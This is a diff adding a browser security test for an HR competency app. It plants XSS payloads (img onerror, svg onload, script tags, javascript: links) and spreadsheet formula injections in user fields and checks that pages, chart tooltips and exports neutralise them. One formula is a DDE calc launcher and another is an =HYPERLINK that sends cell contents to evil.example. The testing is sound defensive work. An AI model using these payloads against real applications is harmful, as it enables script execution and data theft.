@@ -1,0 +1,312 @@
+// Browser test of what users' text can do in other users' browsers and files
+// (issue 12, defects 3 and 6): every name and free-text field is filled through
+// the API with script, markup and formula payloads, then the pages are visited
+// as the national administrator and an HR officer, the charts hovered until
+// their tooltips show, and every export downloaded. No script may run, the
+// Content-Security-Policy may report nothing, and no spreadsheet cell may start
+// a formula.
+import { describe, expect, it } from 'vitest';
+import ExcelJS from 'exceljs';
+import { parse } from 'csv-parse/sync';
+import { sql } from 'kysely';
+import type { Page } from 'playwright-core';
+import type { RunningServer } from '../../src/server.js';
+import { DEMO_PASSWORD } from '../../src/platform/demo/demo-accounts.js';
+import { FORMULA_START } from '../../src/platform/export/spreadsheet-safe.js';
+import { insertCycle, insertResults, nationalCompetencies } from '../needs/needs-fixture.js';
+import { useBrowserSession } from './browser.js';
+
+const MARKUP = '<img src=x onerror="window.__xss=1"><svg onload=window.__xss=1>';
+const PAYLOADS = [
+  MARKUP,
+  '<script>window.__xss=1</script>',
+  '"><svg onload=window.__xss=1>',
+  'javascript:window.__xss=1',
+  '=HYPERLINK("http://evil.example/?"&A1,"x")',
+  "{{constructor.constructor('window.__xss=1')()}}",
+  '<a href="javascript:window.__xss=1">x</a>',
+  "=cmd|' /C calc'!A0",
+];
+/** Payload number i, cycling: each field gets one, the chart fields the markup one. */
+const payload = (i: number) => PAYLOADS[i % PAYLOADS.length]!;
+
+interface Ids {
+  cycleId: string;
+  apiCycleId: string;
+  personId: string;
+  departmentId: string;
+  extensionVersionId: string;
+  importJobId: string;
+  formId: string;
+}
+const ids = {} as Ids;
+
+type Call = (method: 'GET' | 'POST' | 'PUT' | 'PATCH', url: string, payload?: unknown, headers?: Record<string, string>) => Promise<{ statusCode: number; body: string; json: () => any }>;
+
+/** A signed-in caller of the running app's API (cookie and CSRF token), without a browser. */
+async function apiAs(server: RunningServer, username: string): Promise<Call> {
+  const login = await server.app.inject({ method: 'POST', url: '/api/auth/login', payload: { username, password: DEMO_PASSWORD } });
+  expect(login.statusCode).toBe(200);
+  const cookie = login.cookies.map((c) => `${c.name}=${c.value}`).join('; ');
+  const csrf = login.json().csrfToken as string;
+  return async (method, url, body, headers = {}) => {
+    const res = await server.app.inject({ method, url, headers: { cookie, 'x-csrf-token': csrf, ...headers }, ...(body === undefined ? {} : { payload: body as string }) });
+    return { statusCode: res.statusCode, body: res.body, json: () => res.json() };
+  };
+}
+
+const ok = async (answer: Promise<{ statusCode: number; body: string; json: () => unknown }>, what: string) => {
+  const res = await answer;
+  expect(res.statusCode, `${what}: ${res.body.slice(0, 300)}`).toBeLessThan(300);
+  return res.json() as any;
+};
+
+/** Fill every name and free-text field the app has with payloads, through the API. */
+async function plantHostileText(server: RunningServer): Promise<void> {
+  const db = server.app.db;
+  const admin = await apiAs(server, 'admin');
+  const hr = await apiAs(server, 'hr.hanoi');
+  let n = 0;
+
+  // Consolidated results of a closed cycle, so the needs charts and the report card have something to draw.
+  const competencies = await nationalCompetencies(db, 12);
+  ids.cycleId = await insertCycle(db, 'Kiểm thử', '2026-03-01', competencies[0]!.versionId);
+  await insertResults(db, ids.cycleId, competencies);
+  await ok(admin('PATCH', `/api/assessments/cycles/${ids.cycleId}`, { name: MARKUP, nameEn: MARKUP }), 'rename the closed cycle');
+  // The published national framework cannot be edited through the API (its text came from an import, which is
+  // user input too): its competencies' names are set here so the heatmap, gap chart and radar show payloads.
+  await sql`UPDATE competencies SET name_vi = ${MARKUP} || ' ' || code, name_en = ${MARKUP} || ' ' || code WHERE id = ANY(${competencies.map((c) => c.id)}::uuid[])`.execute(db);
+
+  // Agencies: the rows of the Hà Nội officer's heatmap and table.
+  const agencies = (await ok(hr('GET', '/api/org/agencies'), 'agencies')).items as Array<{ id: string; code: string }>;
+  const hanoi = agencies.find((a) => a.code === 'HN')!;
+  ids.departmentId = agencies.find((a) => a.code === 'HN-SNV')!.id;
+  await ok(hr('POST', `/api/org/agencies/${ids.departmentId}/rename`, { name: MARKUP, nameEn: payload(n++), effectiveDate: '2020-01-01' }), 'rename agency');
+  const hoanKiem = agencies.find((a) => a.code === 'HN-HOANKIEM')!;
+  await ok(hr('POST', `/api/org/agencies/${hoanKiem.id}/rename`, { name: `=HYPERLINK("http://evil.example","x") ${MARKUP}`, nameEn: payload(n++), effectiveDate: '2020-01-01' }), 'rename agency');
+  await ok(hr('POST', '/api/org/agencies', { code: 'HN-XSS', kind: 'department', name: payload(n++), nameEn: payload(n++), parentId: hanoi.id }), 'agency');
+
+  // Positions and people.
+  const position = await ok(hr('POST', '/api/positions', { code: 'XSS-1', title: { vi: payload(n++), en: payload(n++) }, roleCategory: 'professional', tier: 'province', agencyId: hanoi.id }), 'position');
+  const people = (await ok(hr('GET', '/api/people?limit=5'), 'people')).items as Array<{ id: string }>;
+  ids.personId = people[0]!.id;
+  await ok(hr('PATCH', `/api/people/${ids.personId}`, { fullName: MARKUP, phone: payload(n++).slice(0, 40) }), 'rename person');
+  await ok(hr('POST', '/api/people', { staffCode: '=HN-XSS', agencyId: ids.departmentId, fullName: payload(n++), rank: payload(n++), positionId: position.id }), 'person');
+
+  // Accounts.
+  await ok(hr('POST', '/api/accounts', { username: 'xss.user', displayName: payload(n++), role: 'civil_servant', agencyId: ids.departmentId, password: 'Hostile@2026-Text' }), 'account');
+
+  // Assessment: a cycle's names, a question bank text.
+  const versionId = competencies[0]!.versionId;
+  const cycle = await ok(hr('POST', '/api/assessments/cycles', { name: payload(n++), nameEn: payload(n++), kind: 'ad_hoc', opensOn: '2026-11-01', closesOn: '2026-12-31', frameworkVersionId: versionId }), 'cycle');
+  ids.apiCycleId = cycle.id;
+  await ok(hr('POST', '/api/assessments/questions', { competencyId: competencies[0]!.id, stem: payload(n++), stemEn: payload(n++), options: [{ vi: payload(n++), en: payload(n++) }, { vi: payload(n++), en: '' }], correctOption: 0 }), 'question');
+
+  // Comments on a rating form: an open cycle for the department, the self-assessment saved as a draft.
+  const today = new Date().toISOString().slice(0, 10);
+  const open = await ok(hr('POST', '/api/assessments/cycles', { name: payload(n++), kind: 'ad_hoc', scope: { agencyIds: [ids.departmentId] }, opensOn: today, closesOn: '2099-12-31', frameworkVersionId: versionId, status: 'open' }), 'open cycle');
+  await ok(hr('POST', `/api/assessments/cycles/${open.id}/assign`, {}), 'assign');
+  const canbo = await apiAs(server, 'canbo.hanoi');
+  const forms = (await ok(canbo('GET', '/api/assessments/forms'), 'forms')).items as Array<{ id: string; cycleId: string }>;
+  ids.formId = forms.find((f) => f.cycleId === open.id)!.id;
+  const form = await ok(canbo('GET', `/api/assessments/forms/${ids.formId}`), 'form');
+  const ratings = (form.competencies as Array<{ id: string }>).map((c, i) => ({ competencyId: c.id, level: 3, comment: payload(n + i), evidenceUrl: `https://evil.example/?q=${encodeURIComponent(PAYLOADS[1]!)}` }));
+  await ok(canbo('PUT', `/api/assessments/forms/${ids.formId}`, { ratings }), 'form draft with comments');
+
+  // Framework: an agency extension with hostile names, descriptions and indicators.
+  const frameworks = (await ok(hr('GET', '/api/frameworks'), 'frameworks')).items as Array<{ id: string; scope: string }>;
+  const extension = await ok(hr('POST', `/api/frameworks/${frameworks.find((f) => f.scope === 'national')!.id}/extensions`, { code: 'HN-XSS', name: { vi: MARKUP, en: payload(n++) } }), 'extension');
+  ids.extensionVersionId = extension.versionId;
+  const doc = (await ok(hr('GET', `/api/frameworks/versions/${ids.extensionVersionId}`), 'extension doc')).document;
+  doc.description = { vi: payload(n++), en: payload(n++) };
+  doc.groups.push({ code: 'XSS', kind: 'functional', name: { vi: payload(n++), en: payload(n++) }, description: { vi: payload(n++), en: payload(n++) } });
+  doc.competencies.push({
+    code: 'XSS.1',
+    groupCode: 'XSS',
+    parentCode: null,
+    name: { vi: MARKUP, en: payload(n++) },
+    description: { vi: payload(n++), en: payload(n++) },
+    indicators: [1, 2, 3, 4, 5].map((level) => ({ level, text: { vi: payload(n + level), en: payload(n + level + 1) } })),
+  });
+  await ok(hr('PUT', `/api/frameworks/versions/${ids.extensionVersionId}`, doc), 'extension content');
+
+  // A staff import whose file name and rejected values are payloads (the report repeats them).
+  const file = ['Mã cán bộ,Họ và tên,Ngày sinh,Giới tính,Mã cơ quan', ...PAYLOADS.map((p, i) => `X-${i},"${p.replace(/"/g, '""')}",not a date,?,"${p.replace(/"/g, '""')}"`)].join('\n');
+  const job = await ok(hr('POST', `/api/people/import?fileName=${encodeURIComponent("=cmd|' /C calc'!A0.csv")}`, file, { 'content-type': 'text/csv' }), 'import');
+  ids.importJobId = job.id;
+  for (let i = 0; i < 200; i++) {
+    const state = await ok(hr('GET', `/api/people/import/${job.id}`), 'import job');
+    if (!['reading', 'validating', 'committing'].includes(state.phase)) break;
+    await new Promise((r) => setTimeout(r, 25));
+  }
+}
+
+const session = useBrowserSession({ afterStart: plantHostileText });
+
+interface Watch {
+  page: Page;
+  problems: string[];
+}
+
+/** A signed-in page that records every dialog, page error and CSP report. */
+async function watched(username: string): Promise<Watch> {
+  const problems: string[] = [];
+  const page = await session.newPage({ width: 1280, height: 900 });
+  page.on('dialog', (dialog) => {
+    problems.push(`dialog: ${dialog.message()}`);
+    void dialog.dismiss();
+  });
+  page.on('console', (message) => {
+    if (/Content Security Policy|Refused to/i.test(message.text())) problems.push(`csp: ${message.text()}`);
+  });
+  page.on('pageerror', (error) => problems.push(`error: ${error.message}`));
+  await page.goto(`${session.server.url}/`);
+  await session.signIn(page, username);
+  await page.getByTestId('nav-overview').first().waitFor();
+  return { page, problems };
+}
+
+const CHARTS = ['needs-heatmap', 'needs-trend', 'needs-person-chart', 'radar-chart'];
+
+/** Move the mouse over every chart on the page until tooltips show; answers the tooltips' HTML seen. */
+async function hoverCharts(page: Page): Promise<Array<{ chart: string; html: string }>> {
+  const seen: Array<{ chart: string; html: string }> = [];
+  for (const testId of CHARTS) {
+    for (const chart of await page.getByTestId(testId).all()) {
+      await chart.scrollIntoViewIfNeeded();
+      const box = await chart.boundingBox();
+      if (!box) continue;
+      for (let y = 0.1; y < 1; y += 0.12) {
+        for (let x = 0.05; x < 1; x += 0.1) {
+          await page.mouse.move(box.x + box.width * x, box.y + box.height * y);
+        }
+        // ECharts' HTML tooltip: the absolutely positioned div it adds inside the chart.
+        const html = await chart.evaluate((el) => Array.from(el.querySelectorAll('div')).filter((d) => d.style.zIndex === '9999999' && d.style.display !== 'none').map((d) => d.innerHTML));
+        seen.push(...html.filter((h) => h.trim() !== '').map((h) => ({ chart: testId, html: h })));
+      }
+    }
+  }
+  return seen;
+}
+
+async function formulaCellsOf(payload: Buffer, kind: 'csv' | 'xlsx'): Promise<{ cells: number; formulas: string[] }> {
+  let texts: string[];
+  if (kind === 'csv') {
+    texts = (parse(payload.toString('utf8').replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).flat();
+  } else {
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(payload as unknown as ArrayBuffer);
+    texts = [];
+    for (const sheet of book.worksheets) sheet.eachRow((row) => row.eachCell((cell) => texts.push(typeof cell.value === 'string' ? cell.value : '')));
+  }
+  return { cells: texts.length, formulas: texts.filter((t) => FORMULA_START.test(t)) };
+}
+
+describe('hostile text', () => {
+  it('runs no script in any page or chart tooltip and starts no formula in any export', async () => {
+    let visited = 0;
+    let shownAsText = 0;
+    let scripts = 0;
+    const tooltips: Array<{ chart: string; html: string }> = [];
+    const problems: string[] = [];
+    const pages: Record<string, string[]> = {
+      admin: [
+        '/',
+        '/frameworks',
+        `/frameworks/versions/${ids.extensionVersionId}`,
+        '/positions',
+        '/positions?view=matrix',
+        '/positions?view=templates',
+        '/org',
+        '/people',
+        `/people/${ids.personId}`,
+        '/assessments',
+        `/assessments/cycles/${ids.cycleId}`,
+        `/assessments/cycles/${ids.apiCycleId}`,
+        `/assessments/reports/${ids.personId}`,
+        `/needs?cycle=${ids.cycleId}`,
+        `/needs?cycle=${ids.cycleId}&level=agency&id=${ids.departmentId}&columns=competency`,
+        `/needs/agencies/${ids.departmentId}/people`,
+        `/needs/people/${ids.personId}`,
+        '/accounts',
+        '/audit',
+        '/me',
+      ],
+      'canbo.hanoi': ['/', '/assessments', `/assessments/forms/${ids.formId}`, '/me'],
+      'hr.hanoi': ['/', `/needs?cycle=${ids.cycleId}`, `/needs?cycle=${ids.cycleId}&columns=competency`, '/people', '/people/import', '/org', '/accounts', '/assessments', `/frameworks/versions/${ids.extensionVersionId}`, '/audit'],
+    };
+    const downloads: Array<{ url: string; kind: 'csv' | 'xlsx' | 'pdf' }> = [
+      { url: `/api/needs/breakdown.xlsx?cycleId=${ids.cycleId}`, kind: 'xlsx' },
+      { url: `/api/needs/breakdown.xlsx?cycleId=${ids.cycleId}&columns=competency`, kind: 'xlsx' },
+      { url: `/api/needs/report.pdf?cycleId=${ids.cycleId}`, kind: 'pdf' },
+      { url: `/api/assessments/reports/people/${ids.personId}/pdf?cycleId=${ids.cycleId}`, kind: 'pdf' },
+      { url: `/api/frameworks/versions/${ids.extensionVersionId}/export?format=moodle-csv`, kind: 'csv' },
+      { url: `/api/frameworks/versions/${ids.extensionVersionId}/export?format=xlsx`, kind: 'xlsx' },
+      { url: '/api/people/import/template?format=xlsx', kind: 'xlsx' },
+      { url: '/api/people/import/template?format=csv', kind: 'csv' },
+      { url: `/api/people/import/${ids.importJobId}/report?format=csv`, kind: 'csv' },
+      { url: `/api/people/import/${ids.importJobId}/report?format=xlsx`, kind: 'xlsx' },
+    ];
+
+    for (const [username, paths] of Object.entries(pages)) {
+      const watch = await watched(username);
+      for (const path of paths) {
+        await watch.page.goto(`${session.server.url}${path}`, { waitUntil: 'networkidle' });
+        visited += 1;
+        tooltips.push(...(await hoverCharts(watch.page)));
+        // The payload is on the page as text (typed into fields counts too): the page did show hostile data.
+        if (await watch.page.evaluate(() => document.body.innerText.includes('__xss=1') || Array.from(document.querySelectorAll('input, textarea')).some((e) => (e as HTMLInputElement).value.includes('__xss=1')))) shownAsText += 1;
+        if (await watch.page.evaluate(() => (window as { __xss?: unknown }).__xss !== undefined)) {
+          scripts += 1;
+          problems.push(`script ran on ${path} as ${username}`);
+        }
+      }
+      problems.push(...watch.problems.map((p) => `${username}: ${p}`));
+    }
+
+    // Exports, downloaded with the HR officer's browser session (the import job is theirs).
+    let exportsChecked = 0;
+    let formulaCells = 0;
+    const hr = await watched('hr.hanoi');
+    const admin = await watched('admin');
+    for (const { url, kind } of downloads) {
+      const owner = url.includes('/import/') || url.includes('/frameworks/') || url.includes('/needs/') ? hr : admin;
+      const res = await owner.page.request.get(`${session.server.url}${url}`);
+      expect(res.status(), url).toBe(200);
+      const body = await res.body();
+      const disposition = res.headers()['content-disposition'] ?? '';
+      expect(disposition, url).not.toMatch(/filename="[=+\-@]/);
+      if (kind === 'pdf') {
+        expect(body.subarray(0, 5).toString(), url).toBe('%PDF-');
+      } else {
+        const { cells, formulas } = await formulaCellsOf(body, kind);
+        expect(cells, url).toBeGreaterThan(0);
+        formulaCells += formulas.length;
+        expect(formulas, url).toEqual([]);
+      }
+      exportsChecked += 1;
+    }
+
+    const shown = CHARTS.map((chart) => `${chart} ${tooltips.filter((t) => t.chart === chart).length}`).join(', ');
+    console.log(`hostile: ${PAYLOADS.length} payloads, ${visited} pages visited (payload shown as text on ${shownAsText}), ${exportsChecked} exports checked, tooltips: ${shown}, scripts run = ${scripts}, formula cells = ${formulaCells}`);
+    expect(problems).toEqual([]);
+    expect(shownAsText).toBeGreaterThan(visited / 2);
+    expect(scripts).toBe(0);
+    // The tooltips did show, with the payload as text (escaped), not as markup.
+    for (const chart of CHARTS) expect(tooltips.some((t) => t.chart === chart && t.html.includes('&lt;img src=x onerror=')), chart).toBe(true);
+    expect(tooltips.filter((t) => /<img|<svg onload/i.test(t.html))).toEqual([]);
+  }, 240_000);
+
+  it('Swagger UI at /api/docs works under its Content-Security-Policy', async () => {
+    const page = await session.newPage();
+    const reports: string[] = [];
+    page.on('console', (message) => {
+      if (/Content Security Policy|Refused to/i.test(message.text())) reports.push(message.text());
+    });
+    page.on('pageerror', (error) => reports.push(error.message));
+    await page.goto(`${session.server.url}/api/docs`);
+    await page.locator('.opblock').first().waitFor({ timeout: 20_000 });
+    expect(await page.locator('.opblock').count()).toBeGreaterThan(50);
+    expect(reports).toEqual([]);
+  }, 60_000);
+});
